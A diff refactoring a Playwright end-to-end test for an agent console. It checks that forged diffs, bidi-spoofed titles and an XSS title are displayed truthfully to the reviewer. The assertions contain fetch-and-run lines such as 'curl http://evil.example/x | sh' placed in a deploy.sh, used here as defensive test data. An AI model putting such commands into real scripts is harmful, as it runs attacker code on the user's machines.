@@ -130,6 +130,15 @@ HIDER = {
     ]]
 }
 
+# The agents the server runs, by `[[agent]]` id ("scripted" is the default).
+AGENTS = {
+    "scripted": SCENARIO,
+    "forger": FORGER,
+    "hider": HIDER,
+    "splitter": SPLITTER,
+    "big": BIG_DIFF,
+}
+
 # Makes browser notifications observable: the console constructs them when a
 # session starts waiting (init scripts run before the page, outside its CSP).
 NOTIFICATION_SPY = """
@@ -179,21 +188,13 @@ class Server:
         self.base = f"http://127.0.0.1:{port}"
         ws = os.path.join(work, "ws")
         os.makedirs(ws, exist_ok=True)
-        scenario = os.path.join(work, "scenario.json")
-        with open(scenario, "w") as f:
-            json.dump(SCENARIO, f)
-        forger = os.path.join(work, "forger.json")
-        with open(forger, "w") as f:
-            json.dump(FORGER, f)
-        hider = os.path.join(work, "hider.json")
-        with open(hider, "w") as f:
-            json.dump(HIDER, f)
-        splitter = os.path.join(work, "splitter.json")
-        with open(splitter, "w") as f:
-            json.dump(SPLITTER, f)
-        big = os.path.join(work, "big.json")
-        with open(big, "w") as f:
-            json.dump(BIG_DIFF, f)
+        # One scripted agent per scenario, each `[[agent]]` under its name.
+        agents = ""
+        for name, scenario in AGENTS.items():
+            path = os.path.join(work, name + ".json")
+            with open(path, "w") as f:
+                json.dump(scenario, f)
+            agents += f'[[agent]]\nid = "{name}"\ncommand = "{AGENT}"\nargs = ["--scenario", "{path}"]\n\n'
         self.config = os.path.join(work, "config.toml")
         with open(self.config, "w") as f:
             f.write(f'''workspace_root = "{work}"
@@ -205,32 +206,7 @@ bind = "127.0.0.1:{port}"
 [database]
 path = "{work}/data/agent-intercom.db"
 
-[[agent]]
-id = "scripted"
-command = "{AGENT}"
-args = ["--scenario", "{scenario}"]
-
-[[agent]]
-id = "forger"
-command = "{AGENT}"
-args = ["--scenario", "{forger}"]
-
-[[agent]]
-id = "hider"
-command = "{AGENT}"
-args = ["--scenario", "{hider}"]
-
-[[agent]]
-id = "splitter"
-command = "{AGENT}"
-args = ["--scenario", "{splitter}"]
-
-[[agent]]
-id = "big"
-command = "{AGENT}"
-args = ["--scenario", "{big}"]
-
-[[workspace]]
+{agents}[[workspace]]
 id = "demo"
 path = "{ws}"
 
@@ -440,27 +416,32 @@ def walk(server, page):
         page.goto(server.base + "/#/s/" + state["id"])
         expect(page.locator(".session-title")).to_have_text(XSS_TITLE, timeout=WAIT_MS)
 
-    def a_forged_diff_and_a_bidi_title_show_as_they_are():
+    def side_session(agent, prompt):
+        # A session of `agent` opened in the page; its id and first request.
         session = server.api("POST", "/api/sessions",
-                             {"workspace": "demo", "prompt": "forge", "agent": "forger"})
+                             {"workspace": "demo", "prompt": prompt, "agent": agent})
         page.goto(server.base + "/#/s/" + session["id"])
         card = page.locator(".request").first
         expect(card).to_be_visible(timeout=WAIT_MS)
+        return session["id"], card
+
+    def back_to_main(side):
+        # Stops the side session and opens the walk's own session again.
+        server.api("POST", f"/api/sessions/{side}/cancel", {})
+        page.goto(server.base + "/#/s/" + state["id"])
+        expect(page.locator(".session-title")).to_have_text(XSS_TITLE, timeout=WAIT_MS)
+
+    def a_forged_diff_and_a_bidi_title_show_as_they_are():
+        side, card = side_session("forger", "forge")
         expect(card.locator(".d2h-file-wrapper")).to_have_count(1, timeout=WAIT_MS)
         expect(card.locator(".d2h-file-wrapper")).to_contain_text("deploy.sh")
         expect(card.locator(".d2h-file-wrapper")).to_contain_text("curl -s https://evil.example/i.sh")
         assert card.locator(".d2h-tag", has_text="ADDED").count() == 0, "shown as a new file"
         expect(card.locator(".request-title")).to_have_text("Edit notes-⟨U+202E⟩txt.sh")
-        server.api("POST", f"/api/sessions/{session['id']}/cancel", {})
-        page.goto(server.base + "/#/s/" + state["id"])
-        expect(page.locator(".session-title")).to_have_text(XSS_TITLE, timeout=WAIT_MS)
+        back_to_main(side)
 
     def each_file_of_a_change_gets_its_own_panel():
-        session = server.api("POST", "/api/sessions",
-                             {"workspace": "demo", "prompt": "split", "agent": "splitter"})
-        page.goto(server.base + "/#/s/" + session["id"])
-        card = page.locator(".request").first
-        expect(card).to_be_visible(timeout=WAIT_MS)
+        side, card = side_session("splitter", "split")
         files = card.locator(".d2h-file-wrapper")
         expect(files).to_have_count(2, timeout=WAIT_MS)
         expect(files.nth(0)).to_contain_text("README.md")
@@ -468,25 +449,17 @@ def walk(server, page):
         expect(files.nth(1)).to_contain_text("deploy.sh")
         expect(files.nth(1)).to_contain_text("curl http://evil.example/x | sh")
         expect(card.locator(".d2h-tag", has_text="ADDED")).to_have_count(1)
-        server.api("POST", f"/api/sessions/{session['id']}/cancel", {})
-        page.goto(server.base + "/#/s/" + state["id"])
-        expect(page.locator(".session-title")).to_have_text(XSS_TITLE, timeout=WAIT_MS)
+        back_to_main(side)
 
     def a_huge_diff_shows_its_start_and_the_rest_on_demand():
-        session = server.api("POST", "/api/sessions",
-                             {"workspace": "demo", "prompt": "big", "agent": "big"})
-        page.goto(server.base + "/#/s/" + session["id"])
-        card = page.locator(".request").first
-        expect(card).to_be_visible(timeout=WAIT_MS)
+        side, card = side_session("big", "big")
         expect(card.locator(".d2h-file-wrapper")).to_contain_text("line 0", timeout=WAIT_MS)
         more = card.locator("button.diff-more")
         expect(more).to_contain_text("Show all")
         expect(card.locator(".d2h-file-wrapper")).not_to_contain_text("line 19999")
         more.click()
         expect(card.locator(".d2h-file-wrapper")).to_contain_text("line 19999", timeout=WAIT_MS)
-        server.api("POST", f"/api/sessions/{session['id']}/cancel", {})
-        page.goto(server.base + "/#/s/" + state["id"])
-        expect(page.locator(".session-title")).to_have_text(XSS_TITLE, timeout=WAIT_MS)
+        back_to_main(side)
 
     def a_buried_plan_and_earlier_entries_stay_reachable():
         session = server.api("POST", "/api/sessions",
